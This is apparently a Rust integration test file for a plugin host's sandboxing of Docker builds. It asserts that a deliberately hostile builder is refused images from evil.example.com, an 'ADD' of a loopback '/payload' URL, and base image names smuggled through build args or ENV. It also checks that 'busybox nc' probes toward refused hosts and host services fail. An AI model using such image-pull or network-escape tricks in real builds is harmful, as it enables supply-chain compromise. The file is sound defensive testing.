//! Issue 10, class 3: what a builder's build may make the engine fetch,
//! through the hostile builder (`tests/plugins/hostile-builder`, mode
//! `dockerfile`) against the real engine of `scripts/services.sh start`:
//! base images (`FROM`, multi-stage, `--platform`, ARG-substituted names),
//! `COPY --from=<image>`, `# syntax=` and `ADD <url>` only from what the
//! builder is granted, the job's own repository, or (for Docker Hub-shaped
//! names) images the engine already has; refused before the engine sees
//! the build, naming the line and the image.

mod common;

use bollard::Docker;
use bollard::query_parameters::TagImageOptions;
use common::docker::{docker, remove_images, services};
use launch_agent::plugins::LoadedPlugin;
use serde_json::json;
use std::path::Path;
use std::sync::Arc;

/// A repository in the test registry no other test (or run) uses.
fn unique_repo(test: &str) -> String {
    format!(
        "{}/launch-agent-test/{test}-{}",
        services().registry,
        uuid::Uuid::new_v4().simple()
    )
}

/// Tags the base test image as `image` (`repository:tag`).
async fn tag_base_as(docker: &Docker, image: &str) {
    let (repo, tag) = image.rsplit_once(':').unwrap();
    docker
        .tag_image(
            &services().base_image,
            Some(TagImageOptions {
                repo: Some(repo.to_string()),
                tag: Some(tag.to_string()),
            }),
        )
        .await
        .unwrap_or_else(|e| panic!("tagging {image}: {e}"));
}

/// Loads the hostile builder with `grants_yaml` (a flow mapping).
async fn hostile_builder(dir: &Path, grants_yaml: &str) -> Arc<LoadedPlugin> {
    let wasm = common::test_plugin("hostile-builder");
    let yaml = format!(
        "plugins:\n  hostile-builder:\n    path: {}\n    grants: {grants_yaml}\n",
        wasm.display()
    );
    let config =
        launch_agent::config::LaunchConfig::parse(&yaml, Path::new("t.yaml")).expect("config");
    let mut host = launch_agent::plugins::PluginHost::new(&dir.join("cache"), 128).unwrap();
    host.load(
        "hostile-builder",
        &wasm,
        &config.plugins["hostile-builder"],
        &config.secrets,
    )
    .await
    .expect("load hostile-builder")
}

/// Has `plugin` build `dockerfile` with `args` (and `platform`) for the
/// planned image `image`: the error's text, or `Ok`.
async fn build(
    plugin: &LoadedPlugin,
    image: &str,
    dockerfile: &str,
    args: serde_json::Value,
    platform: &str,
) -> Result<(), String> {
    use launch_agent::plugins::bindings::Job;
    let request = launch_agent::plugins::loaded::BuildRequest {
        job: Job {
            id: "fetches".into(),
            queue: "q".into(),
            spec_json: "{}".into(),
        },
        settings: json!({"mode": "dockerfile", "dockerfile": dockerfile, "args": args, "platform": platform})
            .to_string(),
        destination: String::new(),
        source_dir: None,
        source_id: "fetches".into(),
    };
    let plan = launch_agent::plugins::loaded::BuildPlan {
        image_uri: image.into(),
        dockerfile: String::new(),
        dockerfile_origin: "test".into(),
    };
    plugin
        .build(&request, &plan, None, None, None)
        .await
        .map(|_| ())
        .map_err(|e| e.to_string())
}

#[tokio::test]
async fn base_images_come_only_from_grants_the_jobs_repository_or_the_engine() {
    let docker = docker().await;
    let dir = tempfile::tempdir().unwrap();
    let base = &services().base_image;
    let repo = unique_repo("fetches");
    let image = format!("{repo}:v1");
    let own_base = format!("{repo}:base");
    tag_base_as(&docker, &own_base).await;
    // An image of the test registry the engine has locally (as another
    // job's private image would be).
    let registry_image = format!("{}:v1", unique_repo("private-base"));
    tag_base_as(&docker, &registry_image).await;
    let plugin = hostile_builder(dir.path(), "{ docker: true }").await;

    let refused: Vec<(String, serde_json::Value, &str, &str, String)> = vec![
        // (Dockerfile, build args, platform, line, what the refusal names)
        (
            "FROM 127.0.0.1:1/evil:1\n".into(),
            json!({}),
            "",
            "line 1",
            "127.0.0.1:1/evil:1".into(),
        ),
        (
            format!("FROM {registry_image}\nRUN true\n"),
            json!({}),
            "",
            "line 1",
            registry_image.clone(),
        ),
        (
            format!(
                "FROM {base} AS a\nRUN true\n\nFROM evil.example.com/x:1 AS b\nCOPY --from=a /bin /bin\n"
            ),
            json!({}),
            "",
            "line 4",
            "evil.example.com/x:1".into(),
        ),
        (
            "ARG BASE=evil.example.com/arg:1\nFROM ${BASE}\n".into(),
            json!({}),
            "",
            "line 2",
            "evil.example.com/arg:1".into(),
        ),
        (
            format!("ARG BASE={base}\nFROM $BASE\n"),
            json!({"BASE": "evil.example.com/override:1"}),
            "",
            "line 2",
            "evil.example.com/override:1".into(),
        ),
        (
            format!("FROM --platform=linux/arm64 {base}\n"),
            json!({}),
            "",
            "line 1",
            "linux/arm64".into(),
        ),
        (
            format!("FROM {base}\n"),
            json!({}),
            "linux/s390x",
            "line 1",
            "linux/s390x".into(),
        ),
        (
            format!("FROM {base}\nCOPY --from=evil.example.com/y:1 /a /b\n"),
            json!({}),
            "",
            "line 2",
            "evil.example.com/y:1".into(),
        ),
        (
            format!("# syntax=evil.example.com/frontend:1\nFROM {base}\n"),
            json!({}),
            "",
            "line 1",
            "evil.example.com/frontend:1".into(),
        ),
        (
            "FROM launch-agent-test/never-pulled:1\n".into(),
            json!({}),
            "",
            "line 1",
            "no copy".into(),
        ),
        (
            format!("FROM {base}\nADD http://127.0.0.1:1/payload /p\n"),
            json!({}),
            "",
            "line 2",
            "http://127.0.0.1:1/payload".into(),
        ),
        (
            format!("FROM {base}\nONBUILD COPY --from=evil.example.com/z:1 /a /b\n"),
            json!({}),
            "",
            "line 2",
            "evil.example.com/z:1".into(),
        ),
        (
            format!("FROM {base}\nENV I=evil.example.com/z:1\nCOPY --from=$I /a /b\n"),
            json!({}),
            "",
            "line 3",
            "variable".into(),
        ),
    ];
    for (dockerfile, args, platform, line, names) in &refused {
        let e = build(&plugin, &image, dockerfile, args.clone(), platform)
            .await
            .expect_err(&format!("{dockerfile:?} is refused"));
        assert!(
            e.contains("docker build refused") && e.contains(line) && e.contains(names.as_str()),
            "{dockerfile:?}: {e}"
        );
        assert!(
            docker.inspect_image(&image).await.is_err(),
            "{dockerfile:?}: nothing was built"
        );
    }

    // Stages, the engine's own copy of a Hub-shaped image, and the job's own
    // repository are fine.
    let allowed = [
        format!(
            "FROM {base} AS deps\nRUN true\nFROM deps\nCOPY --from=deps /bin/sh /sh2\nCOPY --from=0 /bin/sh /sh3\n"
        ),
        format!("FROM --platform=linux/amd64 {base}\nRUN true\n"),
        format!("FROM {own_base}\nRUN true\n"),
        "FROM scratch\nCOPY --from=".to_string() + base + " /bin/sh /sh\n",
    ];
    for dockerfile in &allowed {
        build(&plugin, &image, dockerfile, json!({}), "")
            .await
            .unwrap_or_else(|e| panic!("{dockerfile:?}: {e}"));
        remove_images(&docker, std::slice::from_ref(&image)).await;
    }

    // The registry's image is fine once the registry is granted.
    let granted = hostile_builder(
        dir.path(),
        &format!(
            "{{ docker: true, hosts: [\"http://{}\"] }}",
            services().registry
        ),
    )
    .await;
    build(
        &granted,
        &image,
        &format!("FROM {registry_image}\nRUN true\n"),
        json!({}),
        "",
    )
    .await
    .expect("a granted registry's image");
    remove_images(&docker, &[image, own_base, registry_image]).await;
}

/// A loopback server answering every connection with `body`, counting the
/// connections it got.
async fn server(bind: &str, body: &'static str) -> (u16, Arc<std::sync::atomic::AtomicUsize>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind((bind, 0)).await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf).await;
                let response = format!(
                    "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}\n",
                    body.len() + 1
                );
                let _ = stream.write_all(response.as_bytes()).await;
            });
        }
    });
    (port, hits)
}

/// Issue 10, class 3: a build granted `build_network` reaches only the
/// hosts in the builder's `grants.hosts`, through the host's proxy: a
/// granted loopback server answers (plain HTTP and a CONNECT tunnel), a
/// refused one is never reached, and neither is a host service listening
/// on all addresses, straight or through the proxy.
#[tokio::test]
async fn a_granted_builds_steps_reach_only_granted_hosts_through_the_proxy() {
    use std::sync::atomic::Ordering;
    let docker = docker().await;
    let dir = tempfile::tempdir().unwrap();
    let (granted, granted_hits) = server("127.0.0.1", "granted-body").await;
    let (refused, refused_hits) = server("127.0.0.1", "refused-body").await;
    let (service, service_hits) = server("0.0.0.0", "host-service-body").await;
    let repo = unique_repo("proxy");
    let image = format!("{repo}:v1");
    let plugin = hostile_builder(
        dir.path(),
        &format!(
            "{{ docker: true, build_network: true, hosts: [\"http://127.0.0.1:{granted}\"] }}"
        ),
    )
    .await;
    let script = r#"FROM BASE
RUN p=${HTTP_PROXY#http://}; h=${p%:*}; port=${p##*:}; \
    echo "granted: $(printf 'GET http://127.0.0.1:GRANTED/ HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n' | busybox nc -w 5 $h $port | busybox tail -n 1)"; \
    echo "tunnel-ok: $(printf 'CONNECT 127.0.0.1:GRANTED HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n' | busybox nc -w 5 $h $port | busybox tail -n 1)"; \
    echo "refused: $(printf 'GET http://127.0.0.1:REFUSED/ HTTP/1.0\r\n\r\n' | busybox nc -w 5 $h $port | busybox head -n 1)"; \
    echo "tunnel-refused: $(printf 'CONNECT 127.0.0.1:REFUSED HTTP/1.1\r\n\r\n' | busybox nc -w 5 $h $port | busybox head -n 1)"; \
    echo "service-via-proxy: $(printf 'GET http://127.0.0.1:SERVICE/ HTTP/1.0\r\n\r\n' | busybox nc -w 5 $h $port | busybox head -n 1)"; \
    echo "service-direct: $(printf 'GET / HTTP/1.0\r\n\r\n' | busybox timeout 5 busybox nc -w 3 $h SERVICE | busybox head -n 1)end"; \
    echo "bridge-direct: $(printf 'GET / HTTP/1.0\r\n\r\n' | busybox timeout 5 busybox nc -w 3 172.17.0.1 SERVICE | busybox head -n 1)end"
"#
    .replace("BASE", &services().base_image)
    .replace("GRANTED", &granted.to_string())
    .replace("REFUSED", &refused.to_string())
    .replace("SERVICE", &service.to_string());
    let lines = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let warnings = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let sink = {
        let (lines, warns) = (lines.clone(), warnings.clone());
        Arc::new(launch_agent::capabilities::log::JobLog::new(
            Box::new(move |l: &str| lines.lock().unwrap().push(l.to_string())),
            Box::new(move |l: &str| warns.lock().unwrap().push(l.to_string())),
        ))
    };
    use launch_agent::plugins::bindings::Job;
    let request = launch_agent::plugins::loaded::BuildRequest {
        job: Job {
            id: "proxy".into(),
            queue: "q".into(),
            spec_json: "{}".into(),
        },
        settings: json!({"mode": "dockerfile", "dockerfile": script}).to_string(),
        destination: String::new(),
        source_dir: None,
        source_id: "proxy".into(),
    };
    let plan = launch_agent::plugins::loaded::BuildPlan {
        image_uri: image.clone(),
        dockerfile: String::new(),
        dockerfile_origin: "test".into(),
    };
    plugin
        .build(&request, &plan, None, None, Some(sink))
        .await
        .unwrap_or_else(|e| panic!("build: {e}"));
    remove_images(&docker, std::slice::from_ref(&image)).await;
    let said = lines.lock().unwrap().join("\n");
    let answer = |what: &str| {
        said.lines()
            .find(|l| l.contains(&format!("docker build: {what}: ")))
            .unwrap_or_else(|| panic!("no {what} line in {said}"))
            .to_string()
    };
    assert!(answer("granted").contains("granted-body"), "{said}");
    assert!(answer("tunnel-ok").contains("granted-body"), "{said}");
    assert!(answer("refused").contains("403"), "{said}");
    assert!(answer("tunnel-refused").contains("403"), "{said}");
    assert!(answer("service-via-proxy").contains("403"), "{said}");
    assert!(
        answer("service-direct").ends_with("service-direct: end"),
        "{said}"
    );
    assert!(
        answer("bridge-direct").ends_with("bridge-direct: end"),
        "{said}"
    );
    assert!(granted_hits.load(Ordering::SeqCst) >= 2);
    assert_eq!(
        refused_hits.load(Ordering::SeqCst),
        0,
        "the refused server was reached"
    );
    assert_eq!(
        service_hits.load(Ordering::SeqCst),
        0,
        "the host service was reached"
    );
    let warned = warnings.lock().unwrap().join("\n");
    assert!(
        warned.contains(&format!("127.0.0.1:{refused} is not in grants.hosts")),
        "{warned}"
    );
}
